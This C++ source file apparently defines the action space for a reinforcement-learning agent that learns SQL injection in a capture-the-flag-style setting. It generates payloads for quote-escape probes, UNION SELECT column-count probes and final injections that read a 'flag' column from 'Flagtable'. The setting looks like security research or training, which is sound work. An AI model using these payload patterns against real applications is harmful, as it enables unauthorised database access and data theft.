#include "sqlrl/actionspace.hpp"

#include <stdexcept>

namespace sqlrl {

namespace {

const EscapeKind kEscapeOrder[3] = {EscapeKind::DoubleQuote, EscapeKind::SingleQuote,
                                    EscapeKind::NoEscape};

}  // namespace

std::string escape_prefix(EscapeKind e) {
    switch (e) {
        case EscapeKind::DoubleQuote: return "\"";
        case EscapeKind::SingleQuote: return "'";
        case EscapeKind::NoEscape: return "1";
    }
    throw std::logic_error("bad EscapeKind");
}

std::string action_payload(const Action& a) {
    std::string s = escape_prefix(a.escape);
    switch (a.kind) {
        case ActionKind::EscapeProbe:
            s += a.probe_polarity == ProbePolarity::True1 ? " and 1=1#" : " and 1=2#";
            return s;
        case ActionKind::ColumnProbe: {
            s += " UNION SELECT ";
            for (int i = 0; i < *a.column_count; ++i) {
                if (i > 0) s += ",";
                s += "1";
            }
            s += a.option_variant == OptionVariant::A ? " LIMIT 1#" : " LIMIT 1 OFFSET 1#";
            return s;
        }
        case ActionKind::Injection: {
            s += " UNION SELECT ";
            for (int i = 0; i < *a.column_count; ++i) {
                if (i > 0) s += ",";
                s += "flag";
            }
            s += " FROM Flagtable#";
            return s;
        }
    }
    throw std::logic_error("bad ActionKind");
}

std::vector<Action> enumerate_actions() {
    std::vector<Action> out;
    out.reserve(kNumActions);

    for (EscapeKind e : kEscapeOrder) {
        for (ProbePolarity p : {ProbePolarity::True1, ProbePolarity::False2}) {
            Action a;
            a.index = static_cast<int>(out.size());
            a.kind = ActionKind::EscapeProbe;
            a.escape = e;
            a.probe_polarity = p;
            a.payload = action_payload(a);
            out.push_back(std::move(a));
        }
    }
    for (EscapeKind e : kEscapeOrder) {
        for (int count = 1; count <= kMaxColumns; ++count) {
            for (OptionVariant v : {OptionVariant::A, OptionVariant::B}) {
                Action a;
                a.index = static_cast<int>(out.size());
                a.kind = ActionKind::ColumnProbe;
                a.escape = e;
                a.column_count = count;
                a.option_variant = v;
                a.payload = action_payload(a);
                out.push_back(std::move(a));
            }
        }
    }
    for (EscapeKind e : kEscapeOrder) {
        for (int count = 1; count <= kMaxColumns; ++count) {
            Action a;
            a.index = static_cast<int>(out.size());
            a.kind = ActionKind::Injection;
            a.escape = e;
            a.column_count = count;
            a.payload = action_payload(a);
            out.push_back(std::move(a));
        }
    }
    return out;
}

const std::vector<Action>& action_table() {
    static const std::vector<Action> table = enumerate_actions();
    return table;
}

int injection_index(EscapeKind escape, int count) {
    if (count < 1 || count > kMaxColumns) {
        throw std::out_of_range("injection_index: count must be in [1,5]");
    }
    return kNumEscapeProbes + kNumColumnProbes + static_cast<int>(escape) * kMaxColumns +
           (count - 1);
}

const char* to_string(EscapeKind e) {
    switch (e) {
        case EscapeKind::DoubleQuote: return "double_quote";
        case EscapeKind::SingleQuote: return "single_quote";
        case EscapeKind::NoEscape: return "no_escape";
    }
    return "?";
}

const char* to_string(ActionKind k) {
    switch (k) {
        case ActionKind::EscapeProbe: return "escape_probe";
        case ActionKind::ColumnProbe: return "column_probe";
        case ActionKind::Injection: return "injection";
    }
    return "?";
}

}  // namespace sqlrl
